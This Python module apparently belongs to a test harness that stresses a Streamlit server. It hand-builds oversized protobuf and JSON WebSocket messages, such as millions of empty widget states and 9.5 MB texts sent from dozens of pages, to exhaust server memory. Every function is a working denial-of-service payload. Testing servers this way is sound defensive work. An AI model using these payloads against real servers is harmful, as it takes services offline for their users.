"""Attacks with WebSocket messages that make the server hold much more than their bytes, run by `hostile.py`."""

import asyncio
import json
from collections.abc import Awaitable, Callable
from contextlib import suppress

from attacks import ATTACKER
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit_session import Session
from websockets.exceptions import WebSocketException

RERUN, WIDGET_STATES, WIDGETS = 11, 2, 1  # numbers of fields in Streamlit's messages


def _field(number: int, data: bytes) -> bytes:
    """Return a field of a protobuf message that holds a message or string."""
    size, rest = b"", len(data)
    while rest > 127:
        size, rest = size + bytes([rest & 127 | 128]), rest >> 7
    return bytes([number << 3 | 2]) + size + bytes([rest]) + data


def _with_json(value: str) -> bytes:
    message = BackMsg()
    message.rerun_script.widget_states.widgets.add(id="x", json_value=value)
    return bytes(message.SerializeToString())


async def _visit(port: int, seconds: float, pages: int, act: Callable[[Session], Awaitable[None]]) -> None:
    """Open pages and do something on each, until the time is over."""

    async def visit() -> None:
        with suppress(OSError, WebSocketException, TimeoutError):
            async with asyncio.timeout(seconds):
                session = await Session.open(port, ATTACKER)
                await session.visit("")
                await act(session)

    await asyncio.gather(*(visit() for _ in range(pages)))


async def _send(port: int, messages: list[bytes], seconds: float, pages: int = 1) -> None:
    """Open pages, send messages on each, and stay until the time is over."""

    async def send(session: Session) -> None:
        for message in messages:
            await session.send_bytes(message)
        await asyncio.sleep(seconds)

    await _visit(port, seconds, pages, send)


async def empty_widgets(port: int, seconds: float) -> None:
    """A message of 30 MB that consists of fifteen million empty widget states."""
    await _send(port, [_field(RERUN, _field(WIDGET_STATES, _field(WIDGETS, b"") * 15_000_000))], seconds)


async def empty_files(port: int, seconds: float) -> None:
    """Five pages with a widget state of eleven million empty files."""
    state = _field(1, b"x") + _field(13, _field(2, b"") * 11_000_000)
    await _send(port, [_field(RERUN, _field(WIDGET_STATES, _field(WIDGETS, state)))], seconds, 5)


async def json_lists(port: int, seconds: float) -> None:
    """A widget state of 23 MB of empty lists as JSON."""
    await _send(port, [_with_json("[" + "[]," * 7_600_000 + "0]")], seconds)


async def kept_texts(port: int, seconds: float) -> None:
    """Twenty pages, each with a text of 9.5 MB and an emoji, and then a message without it."""
    text = json.dumps({"text": "a" * 9_500_000 + "🍕"}, ensure_ascii=False)
    await _send(port, [_with_json(text), _with_json("{}")], seconds, 20)


async def waiting_messages(port: int, seconds: float) -> None:
    """Sixty pages that send three messages of 9.5 MB each at once."""
    await _send(port, [_with_json(json.dumps({"text": "a" * 9_500_000}))] * 3, seconds, 60)


async def unread_runs(port: int, seconds: float) -> None:
    """Four pages with a text of 9.5 MB that ask for six runs a second and read nothing."""

    async def ask(session: Session) -> None:
        await session.run(typed="a" * 9_500_000)
        while True:
            await session.ask_for_run()
            await asyncio.sleep(0.15)

    await _visit(port, seconds, 4, ask)
